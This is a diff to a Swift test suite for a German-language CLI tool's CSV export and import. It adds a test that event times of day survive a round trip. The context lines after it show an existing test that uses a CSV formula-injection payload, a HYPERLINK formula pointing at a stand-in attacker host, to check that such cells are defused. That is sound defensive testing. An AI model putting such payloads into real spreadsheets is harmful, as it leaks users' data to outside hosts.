@@ -389,6 +389,29 @@ final class SpreadsheetTests: RegionTestCase {
 
     /// Text from other offices never runs as a formula when Excel opens kbm's CSV; the apostrophe
     /// that prevents it is taken off again on import.
+    /// An event with a time of day goes out as "24.04.2026 09:30" and comes back unchanged; a plain
+    /// date stays a date cell.
+    func testEventTimesOfDayRoundTripThroughCSV() throws {
+        let timed = kbm.ok("add", "veranstaltung", "Titel=Fachtag Übergang", "Beginn=24.04.2026 09:30", "Ende=24.04.2026 16:00").lastLine
+        let allDay = kbm.ok("add", "veranstaltung", "Titel=Ausbildungsmesse", "Beginn=14.03.2026").lastLine
+        let path = dir + "/veranstaltungen.csv"
+        kbm.ok("export", path, "--kind", "event")
+        let json = python("""
+            import csv, json, sys
+            with open(sys.argv[1], encoding='utf-8-sig', newline='') as f:
+                print(json.dumps(list(csv.DictReader(f, delimiter=';'))))
+            """, [path])
+        let rows = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [[String: String]])
+        let byID = Dictionary(uniqueKeysWithValues: rows.map { ($0["ID"] ?? "", $0) })
+        XCTAssertEqual(byID[timed]?["Beginn"], "24.04.2026 09:30")
+        XCTAssertEqual(byID[timed]?["Ende"], "24.04.2026 16:00")
+        XCTAssertEqual(byID[allDay]?["Beginn"], "14.03.2026")
+        let before = kbm.ok("show", timed, "--file").stdout
+        XCTAssertTrue(kbm.ok("import", path).stdout.contains("0 added, 0 changed, 2 unchanged"))
+        XCTAssertEqual(kbm.ok("show", timed, "--file").stdout, before)
+        XCTAssertEqual(kbm.json(timed)["start"] as? String, "2026-04-24T09:30")
+    }
+
     func testCSVCellsThatLookLikeFormulasAreDefused() throws {
         let formula = "=HYPERLINK(\"http://angreifer.example/?\"&A2;\"Klick\")"
         let id = kbm.ok("add", "stakeholder", "name=Formelverein", "type=organisation", "role=\(formula)", "topics=-Punkt eins,+plus,@at,-3").lastLine
